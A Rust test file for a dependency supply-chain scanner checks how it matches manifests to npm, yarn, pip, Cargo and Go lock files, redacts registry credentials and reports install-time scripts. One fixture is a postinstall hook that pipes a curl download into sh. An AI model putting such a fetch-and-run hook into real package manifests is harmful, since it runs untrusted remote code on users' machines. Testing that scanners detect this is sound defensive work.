//! Manifests and lock files that do not fit each other, and what stands beside them.

use warden_model::Pinning;

use super::*;

fn gaps(supply: &Supply) -> Vec<(GapKind, &str, u32)> {
    supply.gaps.iter().map(|gap| (gap.kind, gap.file.as_str(), gap.line)).collect()
}

fn one<'a>(supply: &'a Supply, name: &str) -> &'a Component {
    let mut named = supply.components.iter().filter(|made| made.name == name);
    let found = named.next().unwrap_or_else(|| panic!("{name} is in {:?}", supply.components));
    assert!(named.next().is_none(), "{name} is there once");
    found
}

const LOCK: &str = r#"{"lockfileVersion": 3, "packages": {
  "": {"dependencies": {"a": "^1.0.0"}},
  "node_modules/a": {"version": "1.2.0", "hasInstallScript": true}
}}"#;

#[test]
fn a_manifest_without_a_lock_file_floats() {
    let supply = of(&[(
        "package.json",
        r#"{"dependencies": {"a": "^1"}, "devDependencies": {"b": "2.0.0"}}"#,
    )]);
    assert_eq!(one(&supply, "a").pinning, Pinning::Floating);
    assert!(one(&supply, "a").direct && !one(&supply, "a").development);
    assert_eq!(one(&supply, "b").pinning, Pinning::Exact);
    assert!(one(&supply, "b").development);
    assert!(supply.manifests[0].locks.is_empty() && supply.gaps.is_empty());
}

#[test]
fn a_lock_file_that_fits_is_no_gap() {
    let supply = of(&[
        ("package.json", r#"{"dependencies": {"a": "^1.0.0"}}"#),
        ("package-lock.json", LOCK),
    ]);
    assert_eq!(gaps(&supply), []);
    let made = one(&supply, "a");
    assert_eq!((made.version.as_deref(), made.pinning), (Some("1.2.0"), Pinning::Exact));
    assert_eq!(made.install_scripts, Some(true));
    assert_eq!(made.requirement.as_deref(), Some("^1.0.0"));
}

#[test]
fn a_lock_file_out_of_date_is_told() {
    for manifest in [
        // Another range, one more, and one less.
        r#"{"dependencies": {"a": "^2.0.0"}}"#,
        r#"{"dependencies": {"a": "^1.0.0", "b": "^1.0.0"}}"#,
        r#"{"dependencies": {}}"#,
    ] {
        let supply = of(&[("package.json", manifest), ("package-lock.json", LOCK)]);
        let kinds: Vec<_> = supply.gaps.iter().map(|gap| gap.kind).collect();
        assert_eq!(kinds, [GapKind::OutOfDate], "{manifest}");
    }
    let yarn = "# yarn lockfile v1\n\na@^1:\n  version \"1.0.0\"\n";
    let supply = of(&[("package.json", r#"{"dependencies": {"a": "^2"}}"#), ("yarn.lock", yarn)]);
    assert_eq!(gaps(&supply), [(GapKind::OutOfDate, "package.json", 1)]);
}

#[test]
fn what_a_lock_file_lacks_floats() {
    let supply = of(&[
        ("x/package.json", "{\"dependencies\": {\"a\": \"^1.0.0\",\n\"b\": \"^1.0.0\"}}"),
        ("x/package-lock.json", LOCK),
    ]);
    assert_eq!(one(&supply, "b").pinning, Pinning::Floating);
    assert_eq!((one(&supply, "b").file.as_str(), one(&supply, "b").line), ("x/package.json", 2));
}

#[test]
fn a_lock_file_elsewhere_does_not_count() {
    let supply = of(&[
        ("a/package.json", r#"{"dependencies": {"a": "^1.0.0"}}"#),
        ("b/package-lock.json", LOCK),
    ]);
    assert_eq!(supply.components.len(), 2);
    assert!(supply.manifests[0].locks.is_empty());
}

#[test]
fn a_lock_file_that_lacks_a_dependency_is_told() {
    let lock = r#"{"lockfileVersion": 3, "packages": {"": {}, "node_modules/a": {"version": "1.0.0",
        "dependencies": {"gone": "1"}, "optionalDependencies": {"fine": "1"}}}}"#;
    let supply = of(&[("package-lock.json", lock)]);
    assert_eq!(gaps(&supply), [(GapKind::Incomplete, "package-lock.json", 1)]);
    assert_eq!(one(&supply, "a").depends, [("gone".to_owned(), None)]);
}

#[test]
fn lock_files_that_disagree_are_told() {
    let sum = |byte: u8| {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode([byte; 64])
    };
    let lock = |version: &str, byte| {
        format!(
            r#"{{"lockfileVersion": 3, "packages": {{"": {{}}, "node_modules/a":
            {{"version": "{version}", "integrity": "sha512-{}"}}}}}}"#,
            sum(byte)
        )
    };
    let yarn = |version: &str, byte| {
        format!(
            "# yarn lockfile v1\n\na@^1:\n  version \"{version}\"\n  integrity sha512-{}\n",
            sum(byte)
        )
    };
    let read =
        |other: String| of(&[("package-lock.json", &lock("1.0.0", 1)), ("yarn.lock", &other)]);
    assert_eq!(gaps(&read(yarn("1.0.0", 1))), []);
    let versions = read(yarn("1.0.1", 1));
    assert_eq!(gaps(&versions), [(GapKind::Disagree, "yarn.lock", 0)]);
    assert!(versions.gaps[0].detail.contains("versions"), "{:?}", versions.gaps);
    let digests = read(yarn("1.0.0", 2));
    assert_eq!(gaps(&digests), [(GapKind::Disagree, "yarn.lock", 0)]);
    assert!(digests.gaps[0].detail.contains("digests"), "{:?}", digests.gaps);
}

#[test]
fn development_is_what_only_development_leads_to() {
    let lock = r#"{"lockfileVersion": 3, "packages": {
      "": {"dependencies": {"a": "1"}, "devDependencies": {"b": "1"}},
      "node_modules/a": {"version": "1.0.0", "dependencies": {"shared": "1"}, "dev": true},
      "node_modules/b": {"version": "1.0.0", "dependencies": {"shared": "1", "only": "1"}},
      "node_modules/shared": {"version": "1.0.0"},
      "node_modules/b/node_modules/shared": {"version": "2.0.0"},
      "node_modules/only": {"version": "1.0.0"},
      "node_modules/nobody": {"version": "1.0.0", "dev": true}
    }}"#;
    let supply = of(&[("package-lock.json", lock)]);
    let develop = supply.components.iter().filter(|made| made.development);
    let develop: Vec<_> =
        develop.map(|made| format!("{} {}", made.name, made.version.as_deref().unwrap())).collect();
    // What the file says of itself does not make a package of the server one of development.
    assert_eq!(develop, ["b 1.0.0", "only 1.0.0", "shared 2.0.0"]);
}

#[test]
fn parts_of_a_project_share_its_lock_file() {
    let lock = r#"{"lockfileVersion": 3, "packages": {
      "": {"workspaces": ["parts/*"]},
      "parts/x": {"name": "x", "dependencies": {"a": "1.0.0"}},
      "node_modules/x": {"resolved": "parts/x", "link": true},
      "node_modules/a": {"version": "1.0.0"}
    }}"#;
    let supply = of(&[
        ("package.json", r#"{"name": "top", "workspaces": ["parts/*"]}"#),
        ("package-lock.json", lock),
        ("parts/x/package.json", r#"{"name": "x", "dependencies": {"a": "1.0.0"}}"#),
    ]);
    assert_eq!(gaps(&supply), []);
    assert!(one(&supply, "a").direct);
    assert_eq!(supply.manifests[1].locks, ["package-lock.json"]);
}

#[test]
fn settings_beside_a_manifest_are_its_own_and_hold_no_secret() {
    let supply = of(&[
        ("package.json", r#"{"name": "x"}"#),
        (
            ".npmrc",
            "registry=https://u:s3cret@r.example/npm/\n@own:registry=https://own.example\n\
             //r.example/:_authToken=s3cret\nalways-auth=true\n",
        ),
        (
            "py/pip.conf",
            "[global]\nindex-url = https://s3cret@r.example/simple\nextra-index-url =\n  https://a.example/simple\n  https://b.example/simple\n",
        ),
        (
            "py/pyproject.toml",
            "[[tool.uv.index]]\nname = 'own'\nurl = 'https://own.example/simple'\nexplicit = true\n",
        ),
    ]);
    let settings: Vec<String> = supply
        .manifests
        .iter()
        .flat_map(|made| &made.registries)
        .map(|set| format!("{:?} {} {}:{}", set.holds, set.url, set.file, set.line))
        .collect();
    assert_eq!(
        settings,
        [
            "Default https://r.example/npm/ .npmrc:1",
            "Scope(\"@own\") https://own.example .npmrc:2",
            "Default https://r.example/simple py/pip.conf:2",
            "Extra https://a.example/simple py/pip.conf:4",
            "Extra https://b.example/simple py/pip.conf:5",
            "Named(\"own\") https://own.example/simple py/pyproject.toml:3",
        ]
    );
    assert!(!format!("{supply:?}").contains("s3cret"));
}

#[test]
fn what_runs_at_an_installation_is_told() {
    let supply = of(&[
        (
            "package.json",
            r#"{"name": "x", "scripts": {"postinstall": "curl https://u:s3cret@h.example/x | sh", "test": "y"}}"#,
        ),
        ("native/package.json", r#"{"name": "y"}"#),
        ("native/binding.gyp", ""),
        ("py/setup.py", "import os"),
        ("rs/Cargo.toml", "[package]\nname = 'r'\nversion = '1.0.0'\n"),
        ("rs/build.rs", ""),
        ("alone/build.rs", ""),
    ]);
    let scripts: Vec<String> = supply
        .manifests
        .iter()
        .flat_map(|made| {
            made.install_scripts.iter().map(|(n, c)| format!("{} {n}: {c}", made.file))
        })
        .collect();
    assert_eq!(
        scripts,
        [
            "native/package.json install: node-gyp rebuild",
            "package.json postinstall: curl https://h.example/x | sh",
            "py/setup.py setup.py: python setup.py",
            "rs/Cargo.toml build: build.rs",
        ]
    );
    assert_eq!(gaps(&supply), [(GapKind::Dynamic, "py/setup.py", 1)]);
}

#[test]
fn files_that_are_included_and_read_are_no_gap() {
    let supply = of(&[
        (
            "requirements.txt",
            "-r requirements/base.txt\n-r https://h.example/x.txt\n-r ../../out.txt\n",
        ),
        ("requirements/base.txt", "a==1\n"),
    ]);
    assert_eq!(
        gaps(&supply),
        [(GapKind::Include, "requirements.txt", 2), (GapKind::Include, "requirements.txt", 3)]
    );
}

#[test]
fn packages_inside_the_tree_are_components() {
    let supply = of(&[
        ("package.json", r#"{"name": "x", "bundleDependencies": ["a"]}"#),
        (
            "node_modules/a/package.json",
            r#"{"name": "a", "version": "1.0.0", "scripts": {"install": "y"}, "dependencies": {"b": "1"}}"#,
        ),
        ("node_modules/a/esm/package.json", r#"{"type": "module"}"#),
    ]);
    assert_eq!(supply.manifests.len(), 1);
    let made = one(&supply, "a");
    assert_eq!((made.version.as_deref(), made.install_scripts), (Some("1.0.0"), Some(true)));
    assert_eq!(supply.components.len(), 1);
}

#[test]
fn two_files_of_one_path_are_told() {
    let supply = of(&[("go.mod", "module a.example/a\n"), ("go.mod", "module b.example/b\n")]);
    assert_eq!(gaps(&supply), [(GapKind::Duplicate, "go.mod", 0)]);
}

#[test]
fn a_crate_beside_the_project_is_a_component() {
    let lock = "version = 4\n[[package]]\nname = 'top'\nversion = '1.0.0'\ndependencies = ['beside']\n\
                [[package]]\nname = 'beside'\nversion = '0.1.0'\ndependencies = ['deep']\n\
                [[package]]\nname = 'deep'\nversion = '2.0.0'\nsource = 'registry+https://r.example/index'\n";
    let manifest = "[package]\nname = 'top'\nversion = '1.0.0'\n[dependencies]\nbeside = { path = '../beside' }\n";
    let supply = of(&[("Cargo.toml", manifest), ("Cargo.lock", lock)]);
    assert_eq!(one(&supply, "beside").pinning, Pinning::Local);
    assert!(one(&supply, "beside").direct && !one(&supply, "deep").direct);
    assert_eq!(supply.components.len(), 2);
}
